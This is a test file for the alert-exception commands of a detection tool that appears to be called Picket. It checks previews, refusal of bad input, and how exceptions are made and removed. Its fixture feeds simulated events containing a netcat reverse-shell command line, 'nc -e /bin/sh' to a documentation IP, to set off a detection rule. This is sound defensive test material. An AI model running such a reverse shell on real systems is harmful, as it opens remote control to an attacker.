// Exceptions as operators type them: a real site and detector in this process, the command as a program of its own.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { encodeBatch } from "@picket/protocol/batch";
import { afterAll, beforeAll, expect, test } from "vitest";
import { listAlerts } from "../../broker/store/alerts.ts";
import { openStore } from "../../broker/store/schema.ts";
import { BOOT, connect, enrol, mine, type TestSite, testSite, until } from "../../broker/testing/site.ts";
import { DetectorConfig } from "../../detector/config.ts";
import { type Detector, detectorOptions, startDetector } from "../../detector/main.ts";
import { child, exec, proc } from "../../detector/testing/events.ts";

const main = new URL("../main.ts", import.meta.url).pathname;
let site: TestSite;
let folder: string;
let detector: Detector;
/** Of the alert about gw-1, and its rule. */
let alert: { id: string; rule: { id: string } };

const cron = proc(9, "/usr/sbin/cron");
const netcat = (pid: number) => child(pid, "/usr/bin/nc", cron, { argv: ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"] });

beforeAll(async () => {
  site = await testSite();
  folder = mkdtempSync(join(tmpdir(), "picket-except-"));
  const access = { url: `https://127.0.0.1:${site.broker.httpsPort}`, ca: site.ca, token: site.token, site: "yard" };
  writeFileSync(join(folder, "site.json"), JSON.stringify(access));
  const config = {
    dir: site.dir,
    host: "localhost",
    port: site.broker.mqttPort,
    scan: false,
    models: { cmdline: false, behaviour: false },
  };
  detector = await startDetector(await detectorOptions(DetectorConfig.parse(config), () => {}));
  for (const name of ["gw-1", "gw-2"]) {
    const device = await enrol(site, name);
    const client = await connect(site, device);
    for (let seq = 0; seq < 3; seq++) {
      const events = [exec(Date.now() - 1_767_225_600_000, netcat(100 + seq), { device: name, seq })];
      await client.publishAsync(mine(device, "events"), Buffer.from(encodeBatch({ boot: BOOT, oldest: seq, events })), { qos: 1 });
    }
    await client.endAsync(true);
  }
  const found = () => {
    using store = openStore(join(site.dir, "site.db"));
    return listAlerts(store, { limit: 100 }).filter(({ rule, count }) => rule.engine === "sigma" && count === 3);
  };
  await until(() => new Set(found().map(({ device }) => device)).size === 2, "alerts of both devices");
  alert = found().find(({ device }) => device === "gw-1")!;
});
afterAll(async () => {
  await detector[Symbol.asyncDispose]();
  await site[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true, force: true });
});

async function picket(...args: string[]) {
  const child = Bun.spawn([process.execPath, main, "--home", folder, ...args], {
    cwd: folder,
    stdin: "ignore",
    stdout: "pipe",
    stderr: "pipe",
  });
  const [out, err, code] = await Promise.all([new Response(child.stdout).text(), new Response(child.stderr).text(), child.exited]);
  return { out, err, code };
}

test("a preview says what would have been hidden, on which devices, and saves nothing", async () => {
  const { out, code } = await picket("exceptions", "preview", "--rule", alert.rule.id, "--where", "Image=/usr/bin/nc");
  expect(code).toBe(0);
  expect(out).toMatch(/it would have hidden 2 alerts of 2, 6 events of 6 looked at\./);
  expect(out).toMatch(/On gw-[12] \(1 alert, 3 events\), gw-[12] \(1 alert, 3 events\)/);
  expect(out).toContain("nc -e /bin/sh 198.51.100.7 4444");
  const other = await picket("exceptions", "preview", "--rule", alert.rule.id, "--where", "Image=/usr/bin/ncat", "--json");
  expect(JSON.parse(other.out)).toMatchObject({ preview: { matches: 0, alerts: { all: 2, gone: 0, smaller: 0 }, devices: [] } });
  expect((await picket("exceptions")).out).toBe("Nothing is excepted.\n");
}, 60_000);

test("an alert closed as a true positive, and an open critical one, speak against it", async () => {
  expect((await picket("alert", alert.id, "close", "--true-positive", "--note", "it was real")).out).toMatch(
    /is closed as a true positive, 1 note\./,
  );
  const { out } = await picket("exceptions", "preview", "--rule", alert.rule.id, "--where", "Image=/usr/bin/nc");
  expect(out).toMatch(/WARNING: It would hide 1 alert that somebody closed as a true positive\./);
  expect((await picket("alert", alert.id)).out).toMatch(
    /status {4}closed as a true positive\n[\s\S]*History\n {2}.* operator closed it as a true positive \(seen 3 times by then\)/,
  );
  await picket("alert", alert.id, "open");
}, 60_000);

test("from an alert: the narrowest proposal, a reason, and the alert is closed", async () => {
  expect(await picket("alert", alert.id, "except")).toMatchObject({ code: 2, err: expect.stringContaining("an exception needs a reason") });
  expect(await picket("alert", alert.id, "except", "--reason", "test")).toMatchObject({
    code: 2,
    err: expect.stringContaining("add --yes"),
  });
  const { out, code } = await picket("alert", alert.id, "except", "--reason", "a drill", "--for", "7d", "--yes");
  expect(out).toMatch(
    new RegExp(
      `It hides rule ${alert.rule.id} on gw-1 where Image is /usr/bin/nc and ParentImage is /usr/sbin/cron\n[\\s\\S]*hidden 1 alert of 1, 3 events`,
    ),
  );
  expect([code, out]).toEqual([0, expect.stringContaining("closed as a false positive")]);
  const shown = await picket("exceptions", "show", "1");
  expect(shown.out).toMatch(/reason {4}a drill\n {2}made .* by operator, from alert /);
  expect(shown.out).toMatch(/holds until .* \(7 days\)\n {2}used {6}never used/);
  expect((await picket("alert", alert.id)).out).toContain("made exception 1 from it");
  expect((await picket("exceptions", "remove", "1")).out).toMatch(/^Exception 1: removed .* by operator/);
  expect((await picket("exceptions", "list", "--json")).out).toContain('"state":"removed"');
}, 60_000);

test.each<[string, string[], RegExp]>([
  ["a field no event has", ["--where", "Img=/usr/bin/nc"], /no event has a field Img/],
  ["a name in other letters", ["--where", "image=/usr/bin/nc"], /did you mean Image/],
  ["a regular expression", ["--where", "CommandLine|re=(a+)+$"], /regular expressions are not taken/],
  ["nothing to hold it", [], /at least one condition/],
  ["a condition without a value", ["--where", "Image"], /FIELD=VALUE/],
  ["for ever", ["--where", "Image=/usr/bin/nc", "--for", "400d"], /none for ever/],
  ["a rule about Picket itself", ["--rule", "picket-broker-loss", "--where", "Image=/usr/bin/nc"], /cannot be excepted/],
  ["any rule", ["--rule", "*", "--where", "Image=/usr/bin/nc"], /1 to 10 devices/],
])("%s is refused before anything is read", async (_, args, words) => {
  const { code, err, out } = await picket("exceptions", "add", "--rule", alert.rule.id, "--reason", "r", "--yes", ...args);
  expect([code, out]).toEqual([2, ""]);
  expect(err).toMatch(words);
});

test("two verdicts, or one without closing, are refused", async () => {
  expect((await picket("alert", alert.id, "close", "--true-positive", "--false-positive")).code).toBe(2);
  expect((await picket("alert", alert.id, "ack", "--false-positive")).code).toBe(2);
});
